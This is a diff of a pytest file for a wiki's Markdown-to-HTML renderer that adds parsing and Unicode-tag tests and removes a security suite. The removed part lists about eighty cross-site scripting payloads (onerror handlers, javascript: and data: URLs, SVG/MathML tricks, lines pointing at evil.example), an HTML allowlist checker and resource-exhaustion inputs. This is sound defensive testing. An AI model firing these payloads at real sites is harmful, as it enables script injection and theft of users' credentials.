@@ -1,25 +1,10 @@
 """One table a syntax: Markdown in, HTML and links out. ``<0>`` is the hole of link 0."""
 
-import re
-from html.parser import HTMLParser
-from urllib.parse import urlsplit
-
 import pytest
 
-from tests.conftest import MakeSite, ParseNote
+from tests.conftest import ParseNote
+from tests.markup.shown import html, targets
 from wiki.markup import render
-from wiki.note import Note
-
-_BREAK = re.compile(r"\n+(?![^<]*</code>)")
-
-
-def html(note: Note) -> str:
-    """The note's HTML without line breaks, but for those in code."""
-    return _BREAK.sub("", "".join(part if isinstance(part, str) else f"<{part}>" for part in note.page.parts))
-
-
-def targets(note: Note) -> list[str]:
-    return [f"{link.target}#{link.anchor}" if link.anchor else link.target for link in note.page.links]
 
 
 @pytest.mark.parametrize(
@@ -33,7 +18,7 @@ def targets(note: Note) -> list[str]:
         pytest.param("[[a/b/Target]]", "<0>Target</a>", ["a/b/Target"], id="path"),
         pytest.param("[[/a/Target]]", "<0>Target</a>", ["/a/Target"], id="absolute path"),
         pytest.param("[[../a/Target]]", "<0>Target</a>", ["../a/Target"], id="relative path"),
-        pytest.param("[[a\\Target]]", "<0>a\\Target</a>", ["a\\Target"], id="backslash"),
+        pytest.param("[[a\\Target]]", "<0>Target</a>", ["a\\Target"], id="backslash"),
         pytest.param("[[a/Target.md]]", "<0>Target</a>", ["a/Target.md"], id=".md"),
         pytest.param("[[Target#Some heading]]", "<0>Target › Some heading</a>", ["Target#Some heading"], id="heading"),
         pytest.param("[[Target#Some heading|x]]", "<0>x</a>", ["Target#Some heading"], id="heading and alias"),
@@ -85,6 +70,19 @@ def test_first_note_of_a_process_is_parsed_like_any_other(parse_note: ParseNote)
     source = "[[Target]]"
     render._markdown.cache_clear()
     assert parse_note(source) == parse_note(source)
+
+
+def test_note_after_one_that_failed_is_parsed_like_any_other(
+    parse_note: ParseNote, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def fail(*args: object) -> None:
+        raise RecursionError
+
+    with monkeypatch.context() as patch:
+        patch.setattr("wiki.markup.headings._Headings.run", fail)
+        with pytest.raises(RecursionError):
+            parse_note("- # b")
+    assert html(parse_note("text")) == "<p>text</p>"
 
 
 @pytest.mark.parametrize(
@@ -237,6 +235,11 @@ def test_note_that_is_nothing_but_an_embed_says_so(source: str, only: str, parse
         ("#nested/tag/", ("nested/tag",)),
         ("#Grün", ("Grün",)),
         ("#2024a", ("2024a",)),
+        ("#日本語/東京。", ("日本語/東京",)),
+        ("#हिन्दी #ไทย #עברית #한국", ("हिन्दी", "ไทย", "עברית", "한국")),
+        ("#a😀", ("a😀",)),
+        ("#has_/{{label}} :: x", ()),
+        ("#2024-01", ()),
         ("#a-b_c", ("a-b_c",)),
         ("# #has_/text_of_/abstract", ("has_/text_of_/abstract",)),
         ("#tag #Tag", ("tag",)),
@@ -400,6 +403,10 @@ def test_list(source: str, shown: str, parse_note: ParseNote) -> None:
     assert html(parse_note(source)).replace("\n", "") == shown
 
 
+def test_words_of_two_blocks_are_two_words(parse_note: ParseNote) -> None:
+    assert parse_note("- a\n  - b\n\n> c\n> - d\n\n| e | f |\n|---|---|\n| g | h |").text.split() == list("abcdefgh")
+
+
 @pytest.mark.parametrize(
     ("source", "headings"),
     [
@@ -483,11 +490,6 @@ def test_table(parse_note: ParseNote) -> None:
     assert targets(note) == ["x"]
 
 
-def test_footnote_leads_there_and_back(parse_note: ParseNote) -> None:
-    shown = html(parse_note("text[^1]\n\n[^1]: a note on [[x]]"))
-    assert all(piece in shown for piece in ('id="fnref:1"', 'href="#fn:1"', 'id="fn:1"', 'href="#fnref:1"', "<0>x</a>"))
-
-
 @pytest.mark.parametrize(
     ("data", "text"),
     [
@@ -510,352 +512,3 @@ def test_any_bytes_become_text(data: bytes, text: str, parse_note: ParseNote) ->
 def test_file_that_is_not_utf8_says_so(parse_note: ParseNote) -> None:
     assert "UTF-8" in parse_note(b"M\xfcller").page.problems[0]
     assert parse_note("Müller".encode()).page.problems == ()
-
-
-# --- what a note must not do to whoever reads it ---------------------------------------------------------------------
-
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<script src=//evil.example/x.js></script>",
-    "<img src=x onerror=alert(1)>",
-    "<IMG SRC=x OnError=alert(1)//",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<p onclick='alert(1)' style='background:url(//evil.example)'>x</p>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java\tscript:alert(1))",
-    "[x](<java&#10;script:alert(1)>)",
-    "[x](%6aavascript:alert(1))",
-    "[x](javascript&colon;alert(1))",
-    "[x][r]\n\n[r]: javascript:alert(1)",
-    "<javascript:alert(1)>",
-    "[[javascript:alert(1)]]",
-    "[[javascript:alert(1)|x]]",
-    "![[javascript:alert(1)]]",
-    "![x](javascript:alert(1))",
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href="jav&#x09;ascript:alert(1)">x</a>',
-    '<a href=" &#14; javascript:alert(1)">x</a>',
-    '<a href="vbscript:alert(1)">x</a>',
-    '<a href="wiki:javascript:alert(1)">x</a>',
-    '<a href="tag:x&quot; onclick=&quot;alert(1)">x</a>',
-    "<a href='wiki:x\" onclick=\"alert(1)'>x</a>",
-    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
-    "[x](data:text/html,<script>alert(1)</script>)",
-    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
-    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
-    '<math href="javascript:alert(1)">x</math>',
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
-    "<iframe src=//evil.example></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<style>@import '//evil.example'; * { display: none }</style>",
-    "<link rel=stylesheet href=//evil.example>",
-    "<base href=//evil.example>",
-    "<meta http-equiv=refresh content='0; url=//evil.example'>",
-    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
-    "<object data=//evil.example><param name=x></object>",
-    "<embed src=//evil.example>",
-    "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x></audio>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
-    "<template><script>alert(1)</script></template>",
-    "<xmp><script>alert(1)</script></xmp><textarea><script>alert(1)</script></textarea>",
-    "<plaintext><script>alert(1)</script>",
-    "<select><option><script>alert(1)</script>",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<!--><script>alert(1)</script>-->",
-    "<?php echo '<script>alert(1)</script>' ?>",
-    '<h1 id="note">x</h1><a id="content" name="forms">x</a><form id="note"></form>',
-    "<div id=note class='hit missing embed tier'>x</div>",
-    "## note\n\n<span id=h-x>y</span>",
-    "x</p></div></article></main><div><p>y",
-    "<table><tr><td></table></article><script>alert(1)</script>",
-    '[[x"><img src=x onerror=alert(1)>|y]]',
-    '[[x|<img src=x onerror=alert(1)>]]',
-    '![[x.png|" onerror="alert(1)]]',
-    '![a" onerror="alert(1)](x.png)',
-    '[a](<x" onmouseover="alert(1)>)',
-    '[a](x "t" onmouseover="alert(1)")',
-    '[x](#"onclick="alert(1))',
-    '#tag"onclick="alert(1)',
-    "`<img src=x onerror=alert(1)>`",
-    '```"><script>alert(1)</script>\nx\n```',
-    "```x\n</code></pre><script>alert(1)</script>\n```",
-    "<a title='a>b<script>' href=x>q</a>",
-    "<a href=x title='<img src=q onerror=alert(1)>'>x</a>",
-    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
-    "x[^1]\n\n[^1]: <script>alert(1)</script>",
-    "<b><i></b><u></i><img src=x onerror=alert(1)></u>",
-    "---\nk: '<script>alert(1)</script>'\nurl: javascript:alert(1)\nl: '[[javascript:alert(1)]]'\n---\n",
-    "---\ntitle: '<script>alert(1)</script>'\n---\n",
-    "---\naliases: ['<img src=x onerror=alert(1)>']\ntags: ['\"><b onclick=x>']\n---\n",
-    "# <img src=x onerror=alert(1)>\n\ny",
-    "---\nbroken: [<script>alert(1)</script>\n---\n<script>alert(1)</script>",
-    b"\xff<script>alert(1)</script>".decode("latin-1"),
-    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
-]  # fmt: skip
-
-TAGS = frozenset(
-    [
-        "a",
-        "abbr",
-        "article",
-        "aside",
-        "audio",
-        "b",
-        "bdi",
-        "blockquote",
-        "br",
-        "button",
-        "caption",
-        "cite",
-        "code",
-        "col",
-        "colgroup",
-        "dd",
-        "del",
-        "details",
-        "dfn",
-        "div",
-        "dl",
-        "dt",
-        "em",
-        "figcaption",
-        "figure",
-        "footer",
-        "h1",
-        "h2",
-        "h3",
-        "h4",
-        "h5",
-        "h6",
-        "header",
-        "hr",
-        "i",
-        "img",
-        "ins",
-        "kbd",
-        "li",
-        "main",
-        "mark",
-        "nav",
-        "ol",
-        "p",
-        "pre",
-        "q",
-        "rp",
-        "rt",
-        "ruby",
-        "s",
-        "samp",
-        "section",
-        "small",
-        "span",
-        "strong",
-        "sub",
-        "summary",
-        "sup",
-        "table",
-        "tbody",
-        "td",
-        "tfoot",
-        "th",
-        "thead",
-        "time",
-        "tr",
-        "tt",
-        "u",
-        "ul",
-        "var",
-        "video",
-        "wbr",
-        "math",
-        "mrow",
-        "mi",
-        "mo",
-        "mn",
-        "ms",
-        "mtext",
-        "mspace",
-        "mstyle",
-        "munder",
-        "mover",
-        "munderover",
-        "msub",
-        "msup",
-        "msubsup",
-        "mfrac",
-        "msqrt",
-        "mroot",
-        "mtable",
-        "mtr",
-        "mtd",
-        "semantics",
-        "annotation",
-    ]
-)
-ATTRIBUTES = frozenset(
-    [
-        "href",
-        "src",
-        "alt",
-        "title",
-        "dir",
-        "lang",
-        "class",
-        "id",
-        "width",
-        "height",
-        "colspan",
-        "rowspan",
-        "align",
-        "scope",
-        "span",
-        "start",
-        "open",
-        "display",
-        "rel",
-        "loading",
-        "controls",
-        "preload",
-        "datetime",
-        "aria-label",
-        "aria-labelledby",
-        "aria-hidden",
-        "aria-current",
-        "role",
-        "data-tier",
-        "data-relation",
-    ]
-)
-VOID = frozenset(["br", "hr", "img", "wbr", "col"])
-
-
-class Inspector(HTMLParser):
-    """What in a piece of HTML is not on the list, and what in it is unbalanced."""
-
-    def __init__(self) -> None:
-        super().__init__()
-        self.wrong: list[str] = []
-        self.open: list[str] = []
-        self.ids: list[str] = []
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        if tag not in TAGS:
-            self.wrong.append(f"<{tag}>")
-        for name, value in attrs:
-            self._attribute(tag, name, value or "")
-        if tag not in VOID:
-            self.open.append(tag)
-
-    def _attribute(self, tag: str, name: str, value: str) -> None:
-        if name not in ATTRIBUTES:
-            self.wrong.append(f"<{tag} {name}>")
-        if name == "id":
-            self.ids.append(value)
-        if name in ("href", "src"):
-            bare = "".join(c for c in value if c > " ").casefold()
-            if urlsplit(bare).scheme not in ("", "http", "https", "mailto", "tel"):
-                self.wrong.append(f"{name}={value}")
-            if name == "src" and (bare.startswith("//") or ":" in bare):
-                self.wrong.append(f"{name}={value}")
-
-    def handle_endtag(self, tag: str) -> None:
-        if not self.open or self.open.pop() != tag:
-            self.wrong.append(f"</{tag}> closes nothing")
-
-    def handle_comment(self, data: str) -> None:
-        self.wrong.append(f"<!--{data}-->")
-
-    def handle_pi(self, data: str) -> None:
-        self.wrong.append(f"<?{data}>")
-
-
-def inspect(text: str) -> Inspector:
-    inspector = Inspector()
-    inspector.feed(text)
-    inspector.close()
-    return inspector
-
-
-def of_the_note(page: str) -> str:
-    return page.partition('<article id="note"')[2].partition(">")[2].rpartition("</article>")[0]
-
-
-def names(attacks: list[str]) -> list[str]:
-    return [f"{number:02} {attack[:40]!r}" for number, attack in enumerate(attacks)]
-
-
-@pytest.mark.parametrize("attack", ATTACKS, ids=names(ATTACKS))
-def test_nothing_in_a_note_can_act(attack: str, parse_note: ParseNote) -> None:
-    page = parse_note(attack).page
-    for parts in (page.parts, page.properties):
-        # As weaving fills the holes of what is missing.
-        kinds = [page.links[part].kind if isinstance(part, int) else "" for part in parts]
-        pieces = [
-            part if isinstance(part, str) else '<a class="missing">' if kind != "embed" else "<i></i>"
-            for part, kind in zip(parts, kinds, strict=True)
-        ]
-        inspector = inspect("".join(pieces))
-        assert (inspector.wrong, inspector.open) == ([], [])
-        assert all(name.startswith(("h-", "fn:", "fnref:")) for name in inspector.ids)
-
-
-def test_no_page_of_an_attack_can_act(site: MakeSite) -> None:
-    files = {f"n{number:02}.md": attack for number, attack in enumerate(ATTACKS)}
-    embeds = {f"e{number:02}.md": f"![[n{number:02}]]" for number in range(len(ATTACKS))}
-    targets = {"x.md": "x", "x.png": b"png", "javascript:alert(1).md": "y", "q.md": "q"}
-    reader = site({**files, **embeds, **targets}).reader("owner")
-    usual = reader.get("/x").text
-    for name in (*files, *embeds):
-        answer = reader.get("/" + name.removesuffix(".md"))
-        assert answer.status_code == 200
-        note = inspect(of_the_note(answer.text))
-        assert (name, note.wrong, note.open) == (name, [], [])
-        assert (name, set(inspect(answer.text).wrong) - set(inspect(usual).wrong)) == (name, set())
-        assert answer.text.count("<script") == usual.count("<script")
-
-
-def test_embedded_part_of_a_note_is_balanced(site: MakeSite) -> None:
-    files = {
-        "evil.md": "<div><div><div><h2 id='h-x' data-top=''>x</h2></div></div></div>\n\nend",
-        "victim.md": "![[evil#x]]\n\nmy text",
-    }
-    page = site(files, tiers={"unmarked": "public"}).reader().get("/victim").text
-    inspector = inspect(of_the_note(page))
-    assert (inspector.wrong, inspector.open) == ([], [])
-
-
-def test_heading_of_a_note_can_not_name_a_part_of_the_page(parse_note: ParseNote) -> None:
-    ids = inspect(html(parse_note("## note\n\n## content\n\n<h3 id=note>x</h3>\n\n<h3 id='h-note'>y</h3>"))).ids
-    assert all(name.startswith("h-") for name in ids)
-
-
-@pytest.mark.parametrize(
-    "source",
-    [
-        pytest.param("[[a|" * 4_000, id="unclosed links"),
-        pytest.param("[" * 5_000, id="brackets"),
-        pytest.param("**" * 4_000 + "x", id="stars"),
-        pytest.param("`" * 5_000 + "x", id="backticks"),
-        pytest.param("![" * 3_000, id="unclosed pictures"),
-        pytest.param("==a" * 3_000, id="marks"),
-        pytest.param("%%" * 5_001, id="comments"),
-        pytest.param("#" * 5_000, id="hashes"),
-        pytest.param("a :: " * 2_000 + "[[x]]", id="relations"),
-        pytest.param("> " * 300 + "x", id="quotes"),
-        pytest.param("\n".join(" " * depth + "- a" for depth in range(0, 200, 2)), id="lists"),
-        pytest.param("<div>" * 2_000, id="divs"),
-        pytest.param("[[x]] " * 10_000, id="10000 links"),
-        pytest.param("x" * 300_000, id="one long word"),
-        pytest.param("| a " * 2_000 + "|\n" + "|---" * 2_000 + "|\n", id="a wide table"),
-    ],
-)
-def test_no_note_fails_or_hangs(source: str, site: MakeSite) -> None:
-    """A note may be too costly to parse; then it is plain text, and the others are as they were."""
-    wiki = site({"bad.md": source, "good.md": "good"}, tiers={"unmarked": "public"}, limits={"note_seconds": 1.0})
-    assert wiki.reader().get("/bad").status_code == 200
-    assert "good" in of_the_note(wiki.reader().get("/good").text)
